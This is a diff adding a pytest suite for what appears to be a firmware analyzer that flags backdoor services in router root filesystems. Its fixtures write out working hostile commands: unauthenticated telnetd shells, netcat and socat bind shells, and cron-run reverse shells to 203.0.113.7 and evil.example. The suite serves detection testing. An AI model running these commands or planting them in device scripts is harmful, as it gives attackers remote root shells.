@@ -1,0 +1,353 @@
+"""FP-SVC rules: each hits on its case with the exact line as evidence, and not on its decoys."""
+
+from __future__ import annotations
+
+import hashlib
+
+import pytest
+
+from firmproof.analyzers.services import Services
+from firmproof.model import Severity
+from firmproof.rootfs import RootFS
+
+ELF_STUB = b"\x7fELF\x01\x01\x01" + b"\0" * 57
+INITTAB = "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
+RCS = "/etc/init.d/rcS"
+
+
+def router(rcs_lines: list[str], extra: dict[str, bytes | str] | None = None,
+           links: dict[str, str] | None = None) -> RootFS:
+    """A small BusyBox router: inittab → rcS holding `rcs_lines`."""
+    files: dict[str, bytes | str] = {
+        "/etc/inittab": INITTAB,
+        RCS: "#!/bin/sh\nmount -a\n" + "".join(line + "\n" for line in rcs_lines),
+        "/bin/busybox": ELF_STUB,
+    }
+    files.update(extra or {})
+    all_links = {"/bin/sh": "busybox", "/usr/sbin/telnetd": "/bin/busybox", "/sbin/getty": "/bin/busybox",
+                 "/usr/bin/nc": "/bin/busybox"}
+    all_links.update(links or {})
+    return RootFS.from_files(files, modes={RCS: 0o755}, links=all_links)
+
+
+def run(fs: RootFS, rule_id: str | None = None):
+    findings = list(Services().run(fs))
+    return [f for f in findings if rule_id is None or f.rule.id == rule_id]
+
+
+def evidence(fs: RootFS, finding) -> bytes:
+    data = fs.read(finding.path)
+    assert data is not None
+    assert hashlib.sha256(data).hexdigest() == finding.evidence.sha256
+    return data[finding.evidence.offset:finding.evidence.offset + finding.evidence.length]
+
+
+# FP-SVC-001 / FP-SVC-002: telnetd ----------------------------------------------------
+
+def test_fp_svc_001_telnetd_with_a_shell_as_login():
+    fs = router(["/usr/sbin/telnetd -l /bin/sh -p 2323 &"])
+    (finding,) = run(fs, "FP-SVC-001")
+    assert evidence(fs, finding) == b"/usr/sbin/telnetd -l /bin/sh -p 2323 &"
+    assert finding.severity is Severity.CRITICAL and finding.path == RCS
+    assert finding.details["auth"] is False and finding.details["port"] == 2323
+    assert finding.details["chain"] == ["/etc/inittab", RCS, "/usr/sbin/telnetd"]
+
+
+@pytest.mark.parametrize("line", [
+    "busybox telnetd -l /bin/ash",
+    "/bin/busybox telnetd -F -l'/bin/sh' &",
+    "start-stop-daemon -S -b -x /usr/sbin/telnetd -- -l /bin/bash",
+    "nohup utelnetd -p 23 -l /bin/sh -d",
+    "sh -c 'telnetd -l /bin/sh'",
+])
+def test_fp_svc_001_telnetd_variants(line):
+    fs = router([line])
+    (finding,) = run(fs, "FP-SVC-001")
+    assert evidence(fs, finding) == line.encode()
+
+
+def test_fp_svc_001_from_inittab_and_xinetd():
+    fs = RootFS.from_files({
+        "/etc/inittab": "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
+        "/etc/xinetd.d/telnet": "service telnet\n{\n  disable = no\n  server = /usr/sbin/in.telnetd\n"
+                                "  server_args = -L /bin/sh\n  port = 2323\n}\n",
+    })
+    inittab, xinetd = run(fs, "FP-SVC-001")
+    assert evidence(fs, inittab) == b"::respawn:/usr/sbin/telnetd -F -l /bin/sh"
+    assert evidence(fs, xinetd) == b"server = /usr/sbin/in.telnetd"
+    assert xinetd.details["port"] == 2323 and xinetd.details["via"] == "xinetd"
+
+
+def test_fp_svc_001_decoys():
+    fs = router(["# /usr/sbin/telnetd -l /bin/sh   (debug builds only)",
+                 "echo 'telnetd -l /bin/sh' > /tmp/hint",
+                 "cat > /tmp/x.sh <<EOF", "telnetd -l /bin/sh", "EOF",
+                 "killall telnetd"])
+    assert run(fs) == []
+
+
+def test_fp_svc_002_telnetd_with_login():
+    fs = router(["telnetd -p 23"])
+    (finding,) = run(fs, "FP-SVC-002")
+    assert evidence(fs, finding) == b"telnetd -p 23"
+    assert finding.severity is Severity.HIGH
+    assert finding.details["auth"] is True and finding.details["login"] == "/bin/login"
+
+
+def test_fp_svc_002_alpha_networks_fixed_account():
+    fs = router(["image_sign=`cat /etc/config/image_sign`",
+                 "telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0 &"])
+    (finding,) = run(fs, "FP-SVC-002")
+    assert evidence(fs, finding) == b"telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0 &"
+    assert finding.details["fixed_account"] == "Alphanetworks"
+
+
+OPENWRT_TELNET = (
+    "#!/bin/sh /etc/rc.common\n"
+    "# Copyright (C) 2006-2011 OpenWrt.org\n"
+    "\n"
+    "START=50\n"
+    "\n"
+    "has_root_pwd() {\n"
+    "\tlocal pwd=$([ -f \"$1\" ] && cat \"$1\")\n"
+    "\t      pwd=\"${pwd#*root:}\"\n"
+    "\t      pwd=\"${pwd%%:*}\"\n"
+    "\n"
+    "\ttest -n \"${pwd#[\\!x]}\"\n"
+    "}\n"
+    "\n"
+    "start() {\n"
+    "\tif ( ! has_ssh_pubkey && \\\n"
+    "\t     ! has_root_pwd /etc/passwd && ! has_root_pwd /etc/shadow ) || \\\n"
+    "\t   ( ! /etc/init.d/dropbear enabled 2> /dev/null && ! /etc/init.d/sshd enabled 2> /dev/null );\n"
+    "\tthen\n"
+    "\t\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n"
+    "\tfi\n"
+    "}\n"
+    "\n"
+    "stop() {\n"
+    "\tservice_stop /usr/sbin/telnetd\n"
+    "}\n"
+)
+OPENWRT_RCS = """#!/bin/sh
+run_scripts() {
+	for i in /etc/rc.d/$1*; do
+		[ -x $i ] && $i $2 2>&1
+	done | $LOGGER
+}
+LOGGER="cat"
+run_scripts "$1" "$2"
+"""
+
+
+def openwrt(telnet_script: str) -> RootFS:
+    return RootFS.from_files({
+        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n",
+        RCS: OPENWRT_RCS, "/etc/init.d/telnet": telnet_script, "/etc/rc.common": "#!/bin/sh\n",
+        "/etc/init.d/dropbear": "#!/bin/sh /etc/rc.common\nstart() {\n"
+                                "\tservice_start /usr/sbin/dropbear -P /var/run/dropbear.pid\n}\n",
+        "/bin/busybox": ELF_STUB, "/usr/sbin/dropbear": ELF_STUB,
+    }, links={"/etc/rc.d/S50telnet": "../init.d/telnet", "/etc/rc.d/S50dropbear": "../init.d/dropbear",
+              "/usr/sbin/telnetd": "/bin/busybox"})
+
+
+def test_fp_svc_002_stock_openwrt_telnet_is_info_only():
+    fs = openwrt(OPENWRT_TELNET)
+    findings = run(fs)
+    assert all(f.severity is Severity.INFO for f in findings)
+    (telnet,) = [f for f in findings if f.rule.id == "FP-SVC-002"]
+    assert evidence(fs, telnet) == b"service_start /usr/sbin/telnetd -l /bin/login.sh"
+    assert "has_root_pwd" in telnet.details["guard"]
+    assert telnet.details["chain"] == ["/etc/inittab", RCS, "/etc/rc.d/S50telnet", "/etc/init.d/telnet",
+                                       "/usr/sbin/telnetd"]
+
+
+def test_fp_svc_002_patched_openwrt_telnet_without_guard_is_high():
+    patched = OPENWRT_TELNET.replace(OPENWRT_TELNET[OPENWRT_TELNET.index("\tif ("):
+                                                    OPENWRT_TELNET.index("\tfi\n") + 4],
+                                     "\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n")
+    fs = openwrt(patched)
+    (finding,) = run(fs, "FP-SVC-002")
+    assert finding.severity is Severity.HIGH
+    assert evidence(fs, finding) == b"service_start /usr/sbin/telnetd -l /bin/login.sh"
+
+
+def test_fp_svc_002_decoys_not_enabled_and_never_started():
+    fs = RootFS.from_files({
+        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n", RCS: OPENWRT_RCS,
+        "/etc/init.d/telnet": OPENWRT_TELNET.replace("-l /bin/login.sh", "-l /bin/sh"),
+        "/etc/rc.common": "#!/bin/sh\n", "/bin/busybox": ELF_STUB,
+    }, links={"/usr/sbin/telnetd": "/bin/busybox"})       # no /etc/rc.d/S50telnet: disabled
+    assert run(fs) == []
+    assert run(router([], links={"/usr/sbin/utelnetd": "/bin/busybox"})) == []
+
+
+def test_fp_svc_002_lone_partition_hook():
+    """A camera's /mnt/custom partition: no init here, extapp.sh is run by the rootfs."""
+    fs = RootFS.from_files({"/extapp.sh": "#!/bin/sh\nmount --bind /usr/share/web/ /mnt/web/\n"
+                                          "/bin/busybox telnetd -F\n"})
+    (finding,) = run(fs, "FP-SVC-002")
+    assert evidence(fs, finding) == b"/bin/busybox telnetd -F"
+    assert finding.details["reached"] is False and finding.severity is Severity.HIGH
+
+
+# FP-SVC-003: r-services ------------------------------------------------------------
+
+def test_fp_svc_003_rshd_in_inetd_conf():
+    conf = ("#shell stream tcp nowait root /usr/sbin/in.rshd in.rshd\n"
+            "login stream tcp nowait root /usr/sbin/tcpd in.rlogind\n")
+    fs = router(["inetd"], {"/etc/inetd.conf": conf})
+    (finding,) = run(fs, "FP-SVC-003")
+    assert evidence(fs, finding) == b"login stream tcp nowait root /usr/sbin/tcpd in.rlogind"
+    assert finding.severity is Severity.CRITICAL
+    assert finding.details["chain"] == ["/etc/inittab", RCS, "inetd", "/etc/inetd.conf", "in.rlogind"]
+
+
+def test_fp_svc_003_decoy_commented_and_disabled():
+    fs = router([], {
+        "/etc/inetd.conf": "#exec stream tcp nowait root /usr/sbin/in.rexecd in.rexecd\n",
+        "/etc/xinetd.d/rsh": "service shell\n{\n disable = yes\n server = /usr/sbin/in.rshd\n}\n"})
+    assert run(fs) == []
+
+
+# FP-SVC-004 / FP-SVC-005: SSH --------------------------------------------------------
+
+def test_fp_svc_004_dropbear_blank_passwords():
+    fs = router(["dropbear -B -p 22 &"], {"/usr/sbin/dropbear": ELF_STUB})
+    (finding,) = run(fs, "FP-SVC-004")
+    assert evidence(fs, finding) == b"dropbear -B -p 22 &"
+    assert finding.severity is Severity.HIGH and finding.details["option"] == "-B"
+    assert run(fs, "FP-SVC-005") == []
+
+
+def test_fp_svc_004_sshd_config_permit_empty_passwords():
+    config = "# PermitEmptyPasswords yes\nPermitRootLogin yes\n  PermitEmptyPasswords yes\n"
+    fs = router([], {"/etc/ssh/sshd_config": config})
+    (finding,) = run(fs, "FP-SVC-004")
+    assert evidence(fs, finding) == b"PermitEmptyPasswords yes"
+    assert finding.details["permit_root_login"] == "yes"
+
+
+def test_fp_svc_004_decoys():
+    fs = router(["dropbear -s -g -p 22"], {"/etc/ssh/sshd_config": "#PermitEmptyPasswords yes\n"
+                                                                  "PermitEmptyPasswords no\n"})
+    assert run(fs, "FP-SVC-004") == []
+
+
+def test_fp_svc_005_ssh_server_at_boot_is_info():
+    fs = router(["/usr/sbin/dropbear -p 22 -P /var/run/dropbear.pid"],
+                {"/usr/sbin/dropbear": ELF_STUB})
+    (finding,) = run(fs, "FP-SVC-005")
+    assert evidence(fs, finding) == b"/usr/sbin/dropbear -p 22 -P /var/run/dropbear.pid"
+    assert finding.severity is Severity.INFO and finding.details["password_auth"] is True
+
+
+def test_fp_svc_005_decoys_init_script_named_dropbear_and_no_start():
+    fs = router(["/etc/init.d/dropbear enabled && echo yes", "/etc/init.d/sshd status"],
+                {"/usr/sbin/dropbear": ELF_STUB})
+    assert run(fs) == []
+
+
+# FP-SVC-006 / FP-SVC-007: shells on the network ---------------------------------------
+
+@pytest.mark.parametrize(("line", "port"), [
+    ("nc -l -p 31337 -e /bin/sh &", 31337),
+    ("busybox nc -lp 9999 -e /bin/sh", 9999),
+    ("ncat --listen 4444 --exec '/bin/bash -i'", 4444),
+    ("nc -lk 4444 | /bin/sh", 4444),
+    ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1234 > /tmp/f", 1234),
+    ("socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh,pty,stderr &", 5555),
+])
+def test_fp_svc_006_bind_shells(line, port):
+    fs = router([line])
+    (finding,) = run(fs, "FP-SVC-006")
+    assert evidence(fs, finding) == line.encode()
+    assert finding.details["port"] == port and finding.severity is Severity.CRITICAL
+
+
+def test_fp_svc_006_inetd_serving_a_shell_and_cron_reboot():
+    fs = router(["inetd"], {"/etc/inetd.conf": "9999 stream tcp nowait root /bin/sh sh -i\n",
+                            "/etc/crontab": "@reboot root nc -l -p 7777 -e /bin/sh\n"})
+    cron, inetd = sorted(run(fs, "FP-SVC-006"), key=lambda f: f.path)
+    assert evidence(fs, cron) == b"@reboot root nc -l -p 7777 -e /bin/sh"
+    assert cron.details["port"] == 7777 and cron.details["chain"][0] == "crond"
+    assert evidence(fs, inetd) == b"9999 stream tcp nowait root /bin/sh sh -i"
+    assert inetd.details["port"] == 9999
+
+
+@pytest.mark.parametrize("line", [
+    "nc -l -p 8080 > /tmp/firmware.bin",
+    "nc 10.0.0.1 514 < /var/log/messages",
+    "sh /tmp/update.sh | nc 10.0.0.1 9000",
+    "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
+    "exec 3<>/dev/tcp/10.0.0.1/80",
+])
+def test_fp_svc_006_007_decoys(line):
+    assert run(router([line])) == []
+
+
+@pytest.mark.parametrize(("line", "host", "port"), [
+    ("nc 10.0.0.1 4444 -e /bin/sh", "10.0.0.1", 4444),
+    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "203.0.113.7", 4444),
+    ("socat exec:'bash -li',pty,stderr tcp:evil.example:443", "evil.example", 443),
+    ("telnet 10.0.0.2 23 | /bin/sh | telnet 10.0.0.2 24", "10.0.0.2", 23),
+])
+def test_fp_svc_007_reverse_shells(line, host, port):
+    fs = router([], {"/etc/crontabs/root": f"*/10 * * * * {line}\n"})
+    (finding,) = run(fs, "FP-SVC-007")
+    assert evidence(fs, finding) == f"*/10 * * * * {line}".encode()
+    assert finding.details["host"] == host and finding.details["port"] == port
+
+
+# FP-SVC-008: a compiled bind shell started at boot --------------------------------------
+
+def test_fp_svc_008_bind_shell_program_started_from_rcs(elf_programs):
+    binary = elf_programs["bindshell"]
+    fs = router(["/bin/backdoor &"], {"/bin/backdoor": binary}, )
+    (finding,) = run(fs, "FP-SVC-008")
+    assert evidence(fs, finding) == b"/bin/backdoor &"
+    assert finding.path == RCS and finding.severity is Severity.CRITICAL
+    assert finding.details["binary"] == "/bin/backdoor"
+    assert finding.details["binary_sha256"] == hashlib.sha256(binary).hexdigest()
+    assert {"socket", "bind", "listen", "accept", "execl"} <= set(finding.details["imports"])
+    assert finding.details["shell_string"] == "/bin/sh"
+    assert finding.details["chain"] == ["/etc/inittab", RCS, "/bin/backdoor"]
+
+
+@pytest.mark.parametrize("variant", ["sectionless", "bindshell-static"])
+def test_fp_svc_008_stripped_and_static_variants(elf_programs, sectionless, variant):
+    if variant == "sectionless":
+        binary = sectionless(elf_programs["bindshell"])
+    elif variant in elf_programs:
+        binary = elf_programs[variant]
+    else:
+        pytest.skip("no static libc to link against")
+    fs = router(["/usr/bin/helper -d"], {"/usr/bin/helper": binary})
+    (finding,) = run(fs, "FP-SVC-008")
+    assert evidence(fs, finding) == b"/usr/bin/helper -d"
+
+
+def test_fp_svc_008_decoys(elf_programs):
+    fs = router(["/usr/sbin/echod &", "/usr/bin/runsh"],
+                {"/usr/sbin/echod": elf_programs["udpecho"], "/usr/bin/runsh": elf_programs["execonly"],
+                 "/bin/backdoor": elf_programs["bindshell"],              # present, never started
+                 "/usr/sbin/telnetd.real": elf_programs["bindshell"]})
+    assert run(fs) == []
+    # a known daemon with the same shape is left to its own rule
+    known = router(["/usr/sbin/dropbear -p 22"], {"/usr/sbin/dropbear": elf_programs["bindshell"]})
+    assert [f.rule.id for f in run(known)] == ["FP-SVC-005"]
+
+
+def test_fp_svc_006_socket_activated_systemd_shell():
+    fs = RootFS.from_files({
+        "/lib/systemd/systemd": ELF_STUB,
+        "/lib/systemd/system/diag.socket": "[Socket]\nListenStream=5555\nAccept=yes\n",
+        "/lib/systemd/system/diag@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
+        "/lib/systemd/system/idle.socket": "[Socket]\nListenStream=6666\nAccept=yes\n",
+        "/lib/systemd/system/idle@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
+    }, links={"/etc/systemd/system/sockets.target.wants/diag.socket": "/lib/systemd/system/diag.socket"})
+    (finding,) = run(fs, "FP-SVC-006")                 # idle.socket is not enabled
+    assert evidence(fs, finding) == b"ExecStart=-/bin/sh -i"
+    assert finding.path == "/lib/systemd/system/diag@.service" and finding.details["port"] == 5555
+    assert finding.details["chain"][:3] == ["systemd", "/etc/systemd/system/sockets.target.wants/diag.socket",
+                                            "/lib/systemd/system/diag.socket"]
